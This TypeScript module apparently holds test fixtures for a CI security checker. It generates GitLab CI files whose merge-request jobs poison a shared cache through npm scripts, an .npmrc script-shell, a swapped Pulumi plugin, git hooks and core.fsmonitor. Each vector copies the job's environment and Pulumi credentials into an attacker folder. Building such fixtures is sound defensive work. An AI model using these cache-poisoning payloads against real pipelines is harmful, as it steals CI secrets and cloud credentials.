import { stringify } from "yaml";

/** A project whose `npm ci` runs git and installs a Pulumi plugin: programs that a poisoned cache can replace. */
export const reviewedFiles: Readonly<Record<string, string>> = {
  "infra/package.json": JSON.stringify({
    name: "shop-api",
    private: true,
    main: "index.js",
    scripts: { postinstall: "git status --short && git tag --force built && sh ../plugins/install.sh" },
  }),
  "infra/index.js": program("genuine"),
  "plugins/install.sh":
    "chmod +x ../plugins/legit/*\nexec pulumi plugin install resource legit 1.0.0 --file ../plugins/legit\n",
  "plugins/legit/pulumi-resource-legit": [
    "#!/usr/bin/env node",
    'const { main } = require("@pulumi/pulumi/provider");',
    'main({ version: "1.0.0", create: async () => ({ id: "genuine", outs: {} }) }, process.argv.slice(2));',
    "",
  ].join("\n"),
};

/** The names of the attacks with a poisoned cache, with which the names of their findings end. */
export const ways = ["fsmonitor", "hook", "npmrc", "package", "plugin", "program"];

/** The key and the paths of the cache in the merge request's own CI file: the key is that of the rendered file. */
const cache = {
  key: { files: ["infra/package-lock.json"] },
  paths: [
    ".pulumi-home/plugins",
    ...["index.js", "package.json", ".npmrc", "shell"].map((name) => `infra/${name}`),
    ...[".git/config", ".git/hooks"],
  ],
};

const onMergeRequest = [{ if: '$CI_PIPELINE_SOURCE == "merge_request_event"' }];

/** A CI file whose job `preview` poisons the cache. */
export function poisonedPreview(folder: string): string {
  return stringify({ preview: { rules: onMergeRequest, cache, script: poison(folder) } });
}

/** A CI file whose job `stop-x` poisons the cache; GitLab plays it when the merge request is closed. */
export function poisonedStop(folder: string): string {
  const environment = { name: "x/$CI_MERGE_REQUEST_IID" };
  return stringify({
    x: { rules: onMergeRequest, environment: { ...environment, on_stop: "stop-x" }, script: ["true"] },
    "stop-x": {
      rules: onMergeRequest.map((rule) => ({ ...rule, when: "manual", allow_failure: true })),
      environment: { ...environment, action: "stop" },
      cache,
      script: poison(folder),
    },
  });
}

/** Writes one file for each attack, which copies the job's credentials into the attacker's folder. */
function poison(folder: string): string[] {
  const plugin = ".pulumi-home/plugins/resource-legit-v1.0.0";
  const scripts = { preinstall: take(folder, "package"), postinstall: "git status --short; git tag --force built" };
  const files: Readonly<Record<string, string>> = {
    [`${plugin}/pulumi-resource-legit`]: `#!/bin/sh\n${take(folder, "plugin")}\nexit 1\n`,
    "infra/index.js": `require("child_process").execSync(${JSON.stringify(take(folder, "program"))});\n${program("poisoned")}`,
    "infra/package.json": JSON.stringify({ name: "shop-api", private: true, main: "index.js", scripts }),
    "infra/.npmrc": "script-shell=${CI_PROJECT_DIR}/infra/shell\n",
    "infra/shell": `#!/bin/sh\n${take(folder, "npmrc")}\nexec sh "$@"\n`,
    ".git/hooks/reference-transaction": `#!/bin/sh\n${take(folder, "hook")}\n`,
    ".git/hooks/monitor": `#!/bin/sh\n${take(folder, "fsmonitor")}\nexit 1\n`,
  };
  return [
    `mkdir -p ${plugin} .git/hooks`,
    ...Object.entries(files).map(([file, text]) => `echo ${base64(text)} | base64 -d > ${file}`),
    `chmod +x ${plugin}/* .git/hooks/* infra/shell`,
    "git config core.fsmonitor .git/hooks/monitor",
  ];
}

/** A shell command that copies the environment of a job, and the token of its login, into the attacker's folder. */
function take(folder: string, way: string): string {
  return `{ env; cat "$PULUMI_CREDENTIALS_PATH/credentials.json"; } > ${folder}/$CI_JOB_NAME.${way} 2> /dev/null || true`;
}

function program(name: string): string {
  return [
    'const pulumi = require("@pulumi/pulumi");',
    'const thing = new pulumi.CustomResource("legit:index:Thing", "thing", {}, { version: "1.0.0" });',
    `exports.program = "${name}";`,
    "exports.plugin = thing.id;",
    "",
  ].join("\n");
}

function base64(text: string): string {
  return Buffer.from(text).toString("base64");
}
